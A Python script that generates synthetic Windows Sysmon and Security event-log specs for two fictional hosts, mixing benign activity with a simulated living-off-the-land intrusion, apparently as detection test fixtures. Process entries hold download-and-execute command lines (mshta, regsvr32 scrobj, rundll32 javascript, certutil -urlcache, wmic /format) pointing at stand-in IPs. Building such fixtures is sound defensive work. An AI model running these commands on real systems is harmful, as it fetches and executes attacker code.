#!/usr/bin/env python3
# testdata/make-specs.py -- wrote the scenario specs in testdata/spec/ (hosts,
# process trees, LOLBin attacks, bad/ files).  The specs are the source of
# truth and may be edited by hand; rerun only to rebuild them all:
#   python3 testdata/make-specs.py testdata/spec && make testdata
import hashlib, datetime, os, sys
OUT = sys.argv[1]
def T(s):  # "2024-03-04 09:01:02.1234567"
    return s.replace(' ', 'T') + 'Z'
def utc(s):
    return s[:23]
def addsec(s, sec):
    d = datetime.datetime.strptime(s[:19], '%Y-%m-%d %H:%M:%S')
    frac = s[20:] if len(s) > 19 else '0000000'
    d = d + datetime.timedelta(seconds=sec)
    return d.strftime('%Y-%m-%d %H:%M:%S') + '.' + frac
def hashes(img, old=False):
    h = hashlib.sha256(img.lower().encode()).hexdigest().upper()
    s1 = hashlib.sha1(img.lower().encode()).hexdigest().upper()
    m = hashlib.md5(img.lower().encode()).hexdigest().upper()
    if old:
        return 'SHA1=%s' % s1
    return 'SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s' % (s1, m, h, m[::-1])

HOSTS = {
  'WKS01': dict(fqdn='WKS01.corp.local', nb='WKS01', gp='A1B2C3D4', sysmonpid=2812,
                 user='CORP\\alice', sid='S-1-5-21-1111111111-2222222222-3333333333-1104',
                 logon='0x5a3e1', lguid='{A1B2C3D4-1E2F-65E5-E195-050000000000}', home='C:\\Users\\alice'),
  'SRV02': dict(fqdn='SRV02.corp.local', nb='SRV02', gp='5E6F7A8B', sysmonpid=3100,
                 user='CORP\\svc-admin', sid='S-1-5-21-1111111111-2222222222-3333333333-1107',
                 logon='0x9c1f2', lguid='{5E6F7A8B-2A3B-65E8-F2C1-090000000000}', home='C:\\Users\\svc-admin'),
}
SYSTEM_USER = ('NT AUTHORITY\\SYSTEM', 'S-1-5-18', '0x3e7')

class Proc:
    def __init__(s, host, pid, image, cmd, parent, t, user=None, integrity='Medium', cwd=None,
                 ofn=None, desc='?', product='?', company='?', fver='?'):
        s.host, s.pid, s.image, s.cmd, s.parent, s.t = host, pid, image, cmd, parent, t
        h = HOSTS[host]
        s.user = user or (h['user'], h['sid'], h['logon'])
        s.integrity = integrity
        s.cwd = cwd or (h['home'] + '\\')
        base = os.path.basename(image.replace('\\', '/'))
        s.ofn = ofn if ofn is not None else base
        s.desc, s.product, s.company, s.fver = desc, product, company, fver
        d = datetime.datetime.strptime(t[:19], '%Y-%m-%d %H:%M:%S')
        secs = int((d - datetime.datetime(2024, 1, 1)).total_seconds())
        s.guid = '{%s-%04X-%04X-%04X-%012X}' % (h['gp'], (secs >> 16) & 0xffff, secs & 0xffff,
                                              0x0000 if pid < 0x10000 else 0x1000, 0x10000000 + pid * 0x1111)

def sysmon_head(lines, host, eid, rid, t, version=None):
    h = HOSTS[host]
    lines += ['', 'record', 'provider sysmon', 'eventid %d' % eid]
    if version is not None:
        lines.append('version %d' % version)
    lines += ['time ' + T(t), 'recordid %d' % rid, 'pid %d' % h['sysmonpid'], 'tid 3656',
              'channel Microsoft-Windows-Sysmon/Operational', 'computer ' + h['fqdn'], 'user S-1-5-18']

def d(lines, k, v):
    lines.append('data %s=%s' % (k, v))

def sysmon1(lines, p, rid, schema='new'):
    sysmon_head(lines, p.host, 1, rid, p.t, 5 if schema == 'new' else 3)
    par = p.parent
    if schema == 'new':
        d(lines, 'RuleName', '-')
    d(lines, 'UtcTime', utc(p.t)); d(lines, 'ProcessGuid', p.guid); d(lines, 'ProcessId', p.pid)
    d(lines, 'Image', p.image)
    if schema == 'new':
        d(lines, 'FileVersion', p.fver); d(lines, 'Description', p.desc); d(lines, 'Product', p.product)
        d(lines, 'Company', p.company); d(lines, 'OriginalFileName', p.ofn)
    d(lines, 'CommandLine', p.cmd); d(lines, 'CurrentDirectory', p.cwd); d(lines, 'User', p.user[0])
    d(lines, 'LogonGuid', HOSTS[p.host]['lguid']); d(lines, 'LogonId', p.user[2])
    d(lines, 'TerminalSessionId', 1 if p.user[1] != 'S-1-5-18' else 0)
    d(lines, 'IntegrityLevel', p.integrity); d(lines, 'Hashes', hashes(p.image, schema != 'new'))
    d(lines, 'ParentProcessGuid', par.guid); d(lines, 'ParentProcessId', par.pid)
    d(lines, 'ParentImage', par.image); d(lines, 'ParentCommandLine', par.cmd)
    if schema == 'new':
        d(lines, 'ParentUser', par.user[0])

def sysmon3(lines, p, rid, t, dst, dport, src='10.10.1.15', sport=49700, schema='new', proto='tcp', dhost='-'):
    sysmon_head(lines, p.host, 3, rid, t, 5 if schema == 'new' else 4)
    if schema == 'new':
        d(lines, 'RuleName', 'technique_id=T1218,technique_name=Signed Binary Proxy Execution')
    d(lines, 'UtcTime', utc(t)); d(lines, 'ProcessGuid', p.guid); d(lines, 'ProcessId', p.pid)
    d(lines, 'Image', p.image); d(lines, 'User', p.user[0]); d(lines, 'Protocol', proto)
    d(lines, 'Initiated', 'true'); d(lines, 'SourceIsIpv6', 'false'); d(lines, 'SourceIp', src)
    d(lines, 'SourceHostname', HOSTS[p.host]['fqdn']); d(lines, 'SourcePort', sport)
    d(lines, 'SourcePortName', '-'); d(lines, 'DestinationIsIpv6', 'false'); d(lines, 'DestinationIp', dst)
    d(lines, 'DestinationHostname', dhost); d(lines, 'DestinationPort', dport)
    d(lines, 'DestinationPortName', {80: 'http', 443: 'https'}.get(dport, '-'))

def sysmon7(lines, p, rid, t, dll, signed='true', sig='Microsoft Windows', status='Valid', schema='new',
            ofn=None, desc='?', product='?', company='?', fver='?'):
    sysmon_head(lines, p.host, 7, rid, t, 3 if schema == 'new' else 2)
    if schema == 'new':
        d(lines, 'RuleName', '-')
    d(lines, 'UtcTime', utc(t)); d(lines, 'ProcessGuid', p.guid); d(lines, 'ProcessId', p.pid)
    d(lines, 'Image', p.image); d(lines, 'ImageLoaded', dll)
    if schema == 'new':
        d(lines, 'FileVersion', fver); d(lines, 'Description', desc); d(lines, 'Product', product)
        d(lines, 'Company', company)
        d(lines, 'OriginalFileName', ofn if ofn is not None else os.path.basename(dll.replace('\\', '/')))
    d(lines, 'Hashes', hashes(dll, schema != 'new')); d(lines, 'Signed', signed); d(lines, 'Signature', sig)
    if schema == 'new':
        d(lines, 'SignatureStatus', status); d(lines, 'User', p.user[0])

def sysmon5(lines, p, rid, t, schema='new'):
    sysmon_head(lines, p.host, 5, rid, t, 3 if schema == 'new' else 2)
    if schema == 'new':
        d(lines, 'RuleName', '-')
    d(lines, 'UtcTime', utc(t)); d(lines, 'ProcessGuid', p.guid); d(lines, 'ProcessId', p.pid)
    d(lines, 'Image', p.image)
    if schema == 'new':
        d(lines, 'User', p.user[0])

ELEV = {'High': '%%1937', 'Medium': '%%1938', 'System': '%%1936', 'Low': '%%1938'}
LABEL = {'Low': 'S-1-16-4096', 'Medium': 'S-1-16-8192', 'High': 'S-1-16-12288', 'System': 'S-1-16-16384'}

def sec4688(lines, p, rid, version=2, dt=-0.4, tid=None):
    h = HOSTS[p.host]
    t = addsec(p.t, dt) if dt else p.t
    lines += ['', 'record', 'provider security', 'eventid 4688', 'version %d' % version, 'time ' + T(t),
              'recordid %d' % rid, 'pid 4', 'tid %d' % (tid or 7344), 'channel Security',
              'computer ' + h['fqdn'], 'user -']
    su = p.user
    subj = (h['nb'] + '$', 'CORP', '0x3e7', 'S-1-5-18') if su[1] == 'S-1-5-18' else \
           (su[0].split('\\')[1], su[0].split('\\')[0], su[2], su[1])
    d(lines, 'SubjectUserSid', subj[3]); d(lines, 'SubjectUserName', subj[0])
    d(lines, 'SubjectDomainName', subj[1]); d(lines, 'SubjectLogonId', subj[2])
    d(lines, 'NewProcessId', hex(p.pid)); d(lines, 'NewProcessName', p.image)
    d(lines, 'TokenElevationType', ELEV.get(p.integrity, '%%1936')); d(lines, 'ProcessId', hex(p.parent.pid))
    if version >= 1:
        d(lines, 'CommandLine', p.cmd)
    if version >= 2:
        d(lines, 'TargetUserSid', 'S-1-0-0'); d(lines, 'TargetUserName', '-')
        d(lines, 'TargetDomainName', '-'); d(lines, 'TargetLogonId', '0x0')
        d(lines, 'ParentProcessName', p.parent.image); d(lines, 'MandatoryLabel', LABEL[p.integrity])

def sec4689(lines, p, rid, t):
    h = HOSTS[p.host]
    lines += ['', 'record', 'provider security', 'eventid 4689', 'time ' + T(t), 'recordid %d' % rid,
              'pid 4', 'tid 7344', 'channel Security', 'computer ' + h['fqdn'], 'user -']
    d(lines, 'SubjectUserSid', p.user[1]); d(lines, 'SubjectUserName', p.user[0].split('\\')[1])
    d(lines, 'SubjectDomainName', p.user[0].split('\\')[0]); d(lines, 'SubjectLogonId:hex64', p.user[2])
    d(lines, 'Status:hex32', '0x0'); d(lines, 'ProcessId:hex64', hex(p.pid)); d(lines, 'ProcessName', p.image)

def sec4624(lines, host, rid, t, user, sid, logon):
    h = HOSTS[host]
    lines += ['', 'record', 'provider security', 'eventid 4624', 'time ' + T(t), 'recordid %d' % rid,
              'pid 688', 'tid 712', 'channel Security', 'computer ' + h['fqdn'], 'user -']
    for k, v in [('SubjectUserSid', 'S-1-5-18'), ('SubjectUserName', h['nb'] + '$'), ('SubjectDomainName', 'CORP'),
                 ('SubjectLogonId', '0x3e7'), ('TargetUserSid', sid), ('TargetUserName', user.split('\\')[1]),
                 ('TargetDomainName', 'CORP'), ('TargetLogonId', logon), ('LogonType', '2'),
                 ('LogonProcessName', 'User32 '), ('AuthenticationPackageName', 'Negotiate'),
                 ('WorkstationName', h['nb']), ('LogonGuid', '{00000000-0000-0000-0000-000000000000}'),
                 ('TransmittedServices', '-'), ('LmPackageName', '-'), ('KeyLength', '0'),
                 ('ProcessId:hex64', '0x2d8'), ('ProcessName', 'C:\\Windows\\System32\\svchost.exe'),
                 ('IpAddress', '127.0.0.1'), ('IpPort', '0'), ('ImpersonationLevel', '%%1833'),
                 ('RestrictedAdminMode', '-'), ('TargetOutboundUserName', '-'), ('TargetOutboundDomainName', '-'),
                 ('VirtualAccount', '%%1843'), ('TargetLinkedLogonId:hex64', '0x0'), ('ElevatedToken', '%%1842')]:
        d(lines, k, v)

def header(name, out, comment, extra=()):
    return ['# %s -- %s' % (name, comment), 'output ' + out] + list(extra)

def write(name, lines):
    with open(os.path.join(OUT, name), 'w') as f:
        f.write('\n'.join(lines) + '\n')

S32 = 'C:\\Windows\\System32\\'
S64 = 'C:\\Windows\\SysWOW64\\'
NET = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\'
MSB_VS = 'C:\\Program Files (x86)\\Microsoft Visual Studio\\2019\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe'
SYS = SYSTEM_USER

def ms(desc, ofn=None, fver='10.0.19041.1 (WinBuild.160101.0800)'):
    return dict(desc=desc, product='Microsoft\u00ae Windows\u00ae Operating System', company='Microsoft Corporation',
                fver=fver, **({'ofn': ofn} if ofn else {}))

# ---------------- WKS01 ----------------
W = 'WKS01'
wtmp = 'C:\\Users\\alice\\AppData\\Local\\Temp\\'
P = {}
P['services'] = Proc(W, 712, S32 + 'services.exe', S32 + 'services.exe', None, '2024-03-04 08:50:01.1000000', user=SYS, integrity='System')
P['services'].parent = P['services']
P['userinit'] = Proc(W, 4380, S32 + 'userinit.exe', S32 + 'userinit.exe', P['services'], '2024-03-04 08:55:10.2000000')
P['explorer'] = Proc(W, 4512, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', P['userinit'], '2024-03-04 08:55:11.3120000', **ms('Windows Explorer', 'EXPLORER.EXE'))
P['svchost'] = Proc(W, 1216, S32 + 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', P['services'], '2024-03-04 08:56:02.5550000', user=SYS, integrity='System', cwd=S32, **ms('Host Process for Windows Services', 'svchost.exe'))
P['cmd1'] = Proc(W, 6120, S32 + 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ', P['explorer'], '2024-03-04 09:01:00.7770000', **ms('Windows Command Processor', 'Cmd.Exe'))
P['ps1'] = Proc(W, 6344, S32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile', P['cmd1'], '2024-03-04 09:01:30.1010000', **ms('Windows PowerShell', 'PowerShell.EXE'))
P['msi'] = Proc(W, 6588, S32 + 'msiexec.exe', '"C:\\Windows\\system32\\msiexec.exe" /i C:\\Users\\alice\\Downloads\\7z2301-x64.msi /qn', P['ps1'], '2024-03-04 09:05:12.4000000', **ms('Windows\u00ae installer', 'msiexec.exe'))
P['msisrv'] = Proc(W, 6700, S32 + 'msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V', P['services'], '2024-03-04 09:05:13.0000000', user=SYS, integrity='System', cwd=S32, **ms('Windows\u00ae installer', 'msiexec.exe'))
P['regsvr_ok'] = Proc(W, 6812, S32 + 'regsvr32.exe', 'C:\\Windows\\system32\\regsvr32.exe /s "C:\\Program Files\\7-Zip\\7-zip.dll"', P['msisrv'], '2024-03-04 09:05:40.2500000', user=SYS, integrity='System', cwd=S32, **ms('Microsoft(C) Register Server', 'REGSVR32.EXE'))
P['devenv'] = Proc(W, 7010, 'C:\\Program Files (x86)\\Microsoft Visual Studio\\2019\\Professional\\Common7\\IDE\\devenv.exe', '"C:\\Program Files (x86)\\Microsoft Visual Studio\\2019\\Professional\\Common7\\IDE\\devenv.exe" C:\\src\\inventory\\Inventory.sln', P['explorer'], '2024-03-04 09:20:00.0000000', desc='Microsoft Visual Studio 2019', product='Microsoft\u00ae Visual Studio\u00ae', company='Microsoft Corporation', fver='16.11.34031.81', ofn='devenv.exe')
P['msb_ok'] = Proc(W, 7112, MSB_VS, '"' + MSB_VS + '" C:\\src\\inventory\\Inventory.sln /nologo /t:Build /p:Configuration=Release /m', P['devenv'], '2024-03-04 09:31:05.6000000', cwd='C:\\src\\inventory\\', desc='MSBuild.exe', product='Microsoft\u00ae Build Tools\u00ae', company='Microsoft Corporation', fver='16.11.2.50704', ofn='MSBuild.exe')
P['rundll_ok'] = Proc(W, 7230, S32 + 'rundll32.exe', '"C:\\Windows\\system32\\rundll32.exe" shell32.dll,Control_RunDLL desk.cpl', P['explorer'], '2024-03-04 09:40:44.0000000', **ms('Windows host process (Rundll32)', 'RUNDLL32.EXE'))
P['certutil_ok'] = Proc(W, 7300, S32 + 'certutil.exe', 'certutil.exe -hashfile C:\\Users\\alice\\Downloads\\tool.zip SHA256', P['ps1'], '2024-03-04 10:02:03.3000000', **ms('CertUtil.exe', 'CertUtil.exe'))
# day 2: the attack
P['cmd2'] = Proc(W, 7920, S32 + 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ', P['explorer'], '2024-03-05 14:01:02.0000000', **ms('Windows Command Processor', 'Cmd.Exe'))
P['ps2'] = Proc(W, 8004, S32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden', P['cmd2'], '2024-03-05 14:01:40.5000000', **ms('Windows PowerShell', 'PowerShell.EXE'))
P['mshta1'] = Proc(W, 8120, S32 + 'mshta.exe', '"C:\\Windows\\System32\\mshta.exe" http://198.51.100.23/update.hta', P['ps2'], '2024-03-05 14:02:11.1234567', **ms('Microsoft (R) HTML Application host', 'MSHTA.EXE'))
P['mshta2'] = Proc(W, 8188, S32 + 'mshta.exe', 'mshta.exe javascript:a=GetObject("script:https://198.51.100.23/a.sct").Exec();close();', P['mshta1'], '2024-03-05 14:02:40.0000000', **ms('Microsoft (R) HTML Application host', 'MSHTA.EXE'))
P['regsvr_bad'] = Proc(W, 8244, S32 + 'regsvr32.exe', 'regsvr32.exe /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll', P['cmd2'], '2024-03-05 14:03:05.0000000', **ms('Microsoft(C) Register Server', 'REGSVR32.EXE'))
P['rundll_bad'] = Proc(W, 8300, S32 + 'rundll32.exe', 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\upd.dll,#1', P['cmd2'], '2024-03-05 14:05:00.0000000', **ms('Windows host process (Rundll32)', 'RUNDLL32.EXE'))
P['rundll_js'] = Proc(W, 8352, S32 + 'rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.23/r.sct")', P['cmd2'], '2024-03-05 14:05:30.0000000', **ms('Windows host process (Rundll32)', 'RUNDLL32.EXE'))
P['certutil_dl'] = Proc(W, 8420, S32 + 'certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/payload.b64 C:\\Users\\alice\\AppData\\Local\\Temp\\payload.b64', P['cmd2'], '2024-03-05 14:07:00.0000000', **ms('CertUtil.exe', 'CertUtil.exe'))
P['certutil_dec'] = Proc(W, 8476, S32 + 'certutil.exe', 'certutil.exe -decode C:\\Users\\alice\\AppData\\Local\\Temp\\payload.b64 C:\\Users\\alice\\AppData\\Local\\Temp\\svc.exe', P['cmd2'], '2024-03-05 14:07:20.0000000', **ms('CertUtil.exe', 'CertUtil.exe'))
P['renamed'] = Proc(W, 8532, wtmp + 'svc.exe', 'svc.exe C:\\Users\\alice\\AppData\\Local\\Temp\\upd.dll,DllRegisterServer', P['cmd2'], '2024-03-05 14:08:01.0000000', **ms('Windows host process (Rundll32)', 'RUNDLL32.EXE'))
P['msb_bad'] = Proc(W, 8604, NET + 'MSBuild.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\alice\\AppData\\Local\\Temp\\build.csproj', P['cmd2'], '2024-03-05 14:10:00.0000000', desc='MSBuild.exe', product='Microsoft\u00ae .NET Framework', company='Microsoft Corporation', fver='4.8.4084.0 built by: NET48REL1', ofn='MSBuild.exe')
P['installutil'] = Proc(W, 8700, NET + 'InstallUtil.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\alice\\AppData\\Local\\Temp\\inst.dll', P['cmd2'], '2024-03-05 14:12:00.0000000', desc='.NET Framework installation utility', product='Microsoft\u00ae .NET Framework', company='Microsoft Corporation', fver='4.8.4084.0', ofn='InstallUtil.exe')
P['msxsl'] = Proc(W, 8756, wtmp + 'msxsl.exe', 'msxsl.exe C:\\Users\\alice\\AppData\\Local\\Temp\\customers.xml C:\\Users\\alice\\AppData\\Local\\Temp\\script.xsl', P['cmd2'], '2024-03-05 14:15:00.0000000', desc='msxsl', product='Command Line XSLT', company='Microsoft Corporation', fver='1.1.0.1', ofn='msxsl.exe')
P['rundll_ok2'] = Proc(W, 9010, S32 + 'rundll32.exe', '"C:\\Windows\\system32\\rundll32.exe" shell32.dll,Control_RunDLL C:\\Windows\\System32\\appwiz.cpl', P['explorer'], '2024-03-06 08:12:00.0000000', **ms('Windows host process (Rundll32)', 'RUNDLL32.EXE'))
P['msb_ok2'] = Proc(W, 9100, MSB_VS, '"' + MSB_VS + '" C:\\src\\inventory\\Inventory.sln /nologo /t:Rebuild /p:Configuration=Debug /m', P['devenv'], '2024-03-06 10:45:00.0000000', cwd='C:\\src\\inventory\\', desc='MSBuild.exe', product='Microsoft\u00ae Build Tools\u00ae', company='Microsoft Corporation', fver='16.11.2.50704', ofn='MSBuild.exe')

def wks_sysmon():
    L = header('wks01-sysmon.spec', 'wks01-sysmon.evtx',
               'Sysmon/Operational of WKS01 (new schema): two days of user activity and a LOLBin intrusion on day 2',
               ['# Three chunks: templates are defined again in every chunk.', 'file chunk-limit 24000'])
    rid = [5000]
    def nxt():
        rid[0] += 1
        return rid[0]
    ev = []
    for k in ['userinit', 'explorer', 'svchost', 'cmd1', 'ps1', 'msi', 'msisrv', 'regsvr_ok', 'devenv', 'msb_ok', 'rundll_ok', 'certutil_ok',
              'cmd2', 'ps2', 'mshta1', 'mshta2', 'regsvr_bad', 'rundll_bad', 'rundll_js', 'certutil_dl', 'certutil_dec', 'renamed',
              'msb_bad', 'installutil', 'msxsl', 'rundll_ok2', 'msb_ok2']:
        ev.append((P[k].t, 1, P[k]))
    ev += [(addsec(P['mshta1'].t, 1.5), 3, (P['mshta1'], '198.51.100.23', 80, 49712)),
           (addsec(P['mshta2'].t, 0.8), 3, (P['mshta2'], '198.51.100.23', 443, 49713)),
           (addsec(P['regsvr_bad'].t, 0.6), 7, (P['regsvr_bad'], S32 + 'scrobj.dll', ms('Windows \u00ae Script Component Runtime', 'scrobj.dll', '5.812.10240.16384'))),
           (addsec(P['regsvr_bad'].t, 1.1), 3, (P['regsvr_bad'], '198.51.100.23', 80, 49714)),
           (addsec(P['rundll_bad'].t, 0.3), 7, (P['rundll_bad'], wtmp + 'upd.dll', dict(signed='false', sig='-', status='Unavailable'))),
           (addsec(P['certutil_dl'].t, 0.9), 3, (P['certutil_dl'], '198.51.100.23', 80, 49716)),
           (addsec(P['msb_bad'].t, 0.7), 7, (P['msb_bad'], 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll', dict(desc='Microsoft .NET Runtime Common Language Runtime - WorkStation', product='Microsoft\u00ae .NET Framework', company='Microsoft Corporation', fver='4.8.4300.0 built by: NET48REL1LAST_C', ofn='clr.dll'))),
           (addsec(P['msb_ok'].t, 0.5), 7, (P['msb_ok'], 'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll', dict(desc='Microsoft .NET Runtime Common Language Runtime - WorkStation', product='Microsoft\u00ae .NET Framework', company='Microsoft Corporation', fver='4.8.4300.0 built by: NET48REL1LAST_C', ofn='clr.dll'))),
           (addsec(P['certutil_ok'].t, 2), 5, P['certutil_ok']),
           (addsec(P['rundll_ok'].t, 30), 5, P['rundll_ok']),
           (addsec(P['mshta2'].t, 5), 5, P['mshta2']),
           (addsec(P['regsvr_bad'].t, 4), 5, P['regsvr_bad']),
           (addsec(P['msb_bad'].t, 9), 5, P['msb_bad'])]
    ev.sort(key=lambda e: e[0])
    for t, kind, x in ev:
        if kind == 1:
            sysmon1(L, x, nxt())
        elif kind == 3:
            p, ip, port, sport = x
            sysmon3(L, p, nxt(), t, ip, port, sport=sport)
        elif kind == 7:
            p, dll, kw = x
            kw = dict(kw)
            if 'signed' not in kw:
                kw.setdefault('sig', 'Microsoft Windows')
            sysmon7(L, p, nxt(), t, dll, **kw)
        elif kind == 5:
            sysmon5(L, x, nxt(), t)
    write('wks01-sysmon.spec', L)

def wks_security():
    L = header('wks01-security.spec', 'wks01-security.evtx',
               'Security of WKS01: 4688 (template version 2) for the same processes Sysmon saw (same pid, image, time - 0.4 s), 4624 and 4689')
    rid = 20110
    evs = []
    for k in ['explorer', 'cmd1', 'ps1', 'msi', 'regsvr_ok', 'msb_ok', 'rundll_ok', 'certutil_ok', 'cmd2', 'ps2', 'mshta1', 'mshta2',
              'regsvr_bad', 'rundll_bad', 'rundll_js', 'certutil_dl', 'certutil_dec', 'renamed', 'msb_bad', 'installutil', 'msxsl', 'rundll_ok2']:
        evs.append((addsec(P[k].t, -0.4), 'p', P[k]))
    evs.append(('2024-03-04 08:55:09.0000000', 'l', None))
    evs.append((addsec(P['certutil_ok'].t, 2), 'x', P['certutil_ok']))
    evs.append((addsec(P['mshta2'].t, 5), 'x', P['mshta2']))
    evs.sort(key=lambda e: e[0])
    for t, k, p in evs:
        rid += 1
        if k == 'p':
            sec4688(L, p, rid)
        elif k == 'l':
            h = HOSTS[W]
            sec4624(L, W, rid, t, h['user'], h['sid'], h['logon'])
        else:
            sec4689(L, p, rid, t)
    write('wks01-security.spec', L)

# ---------------- SRV02 (old Sysmon schema) ----------------
R = 'SRV02'
stmp = 'C:\\Users\\svc-admin\\AppData\\Local\\Temp\\'
Q = {}
Q['services'] = Proc(R, 640, S32 + 'services.exe', S32 + 'services.exe', None, '2024-03-06 07:00:00.0000000', user=SYS, integrity='System')
Q['services'].parent = Q['services']
Q['svchost'] = Proc(R, 912, S32 + 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', Q['services'], '2024-03-06 07:00:03.0000000', user=SYS, integrity='System', cwd=S32)
Q['wmiprvse'] = Proc(R, 3320, S32 + 'wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', Q['svchost'], '2024-03-06 11:20:00.0000000', user=('NT AUTHORITY\\NETWORK SERVICE', 'S-1-5-20', '0x3e4'), integrity='System', cwd=S32)
Q['msi'] = Proc(R, 3400, S32 + 'msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V', Q['services'], '2024-03-06 09:00:00.0000000', user=SYS, integrity='System', cwd=S32)
Q['msi2'] = Proc(R, 3460, S32 + 'msiexec.exe', 'C:\\Windows\\syswow64\\MsiExec.exe -Embedding 5C1F0A8F0D4C2E6B7A8B9C0D1E2F3A4B C', Q['msi'], '2024-03-06 09:00:05.0000000', user=SYS, integrity='System', cwd=S32)
Q['explorer'] = Proc(R, 2100, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', Q['services'], '2024-03-06 08:00:00.0000000', integrity='High')
Q['cmd'] = Proc(R, 2260, S32 + 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ', Q['explorer'], '2024-03-06 11:25:00.0000000', integrity='High')
Q['ps'] = Proc(R, 2300, S32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe', Q['cmd'], '2024-03-06 11:25:30.0000000', integrity='High')
Q['msb_wmi'] = Proc(R, 3550, NET + 'MSBuild.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\svc-admin\\AppData\\Local\\Temp\\x.csproj', Q['wmiprvse'], '2024-03-06 11:21:14.5000000', integrity='System', cwd=S32)
Q['cdb'] = Proc(R, 3612, 'C:\\Program Files (x86)\\Windows Kits\\10\\Debuggers\\x64\\cdb.exe', '"C:\\Program Files (x86)\\Windows Kits\\10\\Debuggers\\x64\\cdb.exe" -cf C:\\Users\\svc-admin\\AppData\\Local\\Temp\\cmds.txt -o notepad.exe', Q['cmd'], '2024-03-06 11:26:10.0000000', integrity='High')
Q['wmic'] = Proc(R, 3700, S32 + 'wbem\\WMIC.exe', 'wmic.exe process list /format:"http://203.0.113.50/evil.xsl"', Q['ps'], '2024-03-06 11:27:00.0000000', integrity='High')
Q['cmstp'] = Proc(R, 3788, S32 + 'cmstp.exe', 'cmstp.exe /s /ni C:\\Users\\svc-admin\\AppData\\Local\\Temp\\corp.inf', Q['ps'], '2024-03-06 11:28:00.0000000', integrity='High')
Q['odbcconf'] = Proc(R, 3840, S32 + 'odbcconf.exe', 'odbcconf.exe /a {regsvr C:\\Users\\svc-admin\\AppData\\Local\\Temp\\odbc.dll}', Q['ps'], '2024-03-06 11:29:00.0000000', integrity='High')
Q['mshta'] = Proc(R, 3900, S32 + 'mshta.exe', 'mshta.exe http://203.0.113.50/run.hta', Q['ps'], '2024-03-06 11:30:00.0000000', integrity='High')
Q['certutil_ok'] = Proc(R, 4010, S32 + 'certutil.exe', 'certutil.exe -hashfile D:\\Backups\\db-2024-03-06.bak SHA256', Q['cmd'], '2024-03-06 12:00:00.0000000', integrity='High')
Q['msb_vs'] = Proc(R, 4100, MSB_VS, '"' + MSB_VS + '" D:\\build\\service\\Service.sln /t:Build /p:Configuration=Release', Q['cmd'], '2024-03-07 09:00:00.0000000', integrity='High', cwd='D:\\build\\service\\')

def srv_sysmon():
    L = header('srv02-sysmon.spec', 'srv02-sysmon.evtx',
               'Sysmon/Operational of SRV02, an older Sysmon (EID 1 version 3: no RuleName, FileVersion..OriginalFileName, ParentUser; EID 7 version 2)')
    rid = 900
    evs = []
    for k in ['svchost', 'msi', 'msi2', 'explorer', 'wmiprvse', 'msb_wmi', 'cmd', 'ps', 'cdb', 'wmic', 'cmstp', 'odbcconf', 'mshta', 'certutil_ok', 'msb_vs']:
        evs.append((Q[k].t, 1, Q[k]))
    evs += [(addsec(Q['wmic'].t, 1.2), 3, (Q['wmic'], '203.0.113.50', 80)),
            (addsec(Q['mshta'].t, 0.9), 3, (Q['mshta'], '203.0.113.50', 80)),
            (addsec(Q['msb_wmi'].t, 0.4), 7, (Q['msb_wmi'], 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll')),
            (addsec(Q['odbcconf'].t, 0.5), 7, (Q['odbcconf'], stmp + 'odbc.dll')),
            (addsec(Q['mshta'].t, 6), 5, Q['mshta'])]
    evs.sort(key=lambda e: e[0])
    for t, kind, x in evs:
        rid += 1
        if kind == 1:
            sysmon1(L, x, rid, schema='old')
        elif kind == 3:
            sysmon3(L, x[0], rid, t, x[1], x[2], src='10.10.2.20', sport=50100 + rid % 100, schema='old')
        elif kind == 7:
            signed = 'false' if 'Temp' in x[1] else 'true'
            sysmon7(L, x[0], rid, t, x[1], signed=signed, sig='-' if signed == 'false' else 'Microsoft Windows', schema='old')
        else:
            sysmon5(L, x, rid, t, schema='old')
    write('srv02-sysmon.spec', L)

def srv_security():
    L = header('srv02-security.spec', 'srv02-security.evtx',
               'Security of SRV02 (template version 1: CommandLine, no parent name); process creation is audited on SRV02 only here for some processes',
               ['file full'])
    rid = 77000
    for k in ['explorer', 'wmiprvse', 'msb_wmi', 'cmd', 'ps', 'cdb', 'wmic', 'cmstp', 'odbcconf', 'mshta', 'certutil_ok', 'msb_vs']:
        rid += 1
        sec4688(L, Q[k], rid, version=1, dt=-0.3)
    write('srv02-security.spec', L)

def versions_4688():
    L = header('security-4688-versions.spec', 'security-4688-versions.evtx',
               '4688 with template versions 0 (Windows 7/2008 R2), 1 (8.1/2012 R2: + CommandLine) and 2 (10/2016: + Target*, ParentProcessName, MandatoryLabel)')
    base = Proc(W, 1000, S32 + 'cmd.exe', 'cmd.exe /c whoami', P['explorer'], '2024-03-04 12:00:00.0000000')
    for i, v in enumerate([0, 1, 2, 0, 1, 2]):
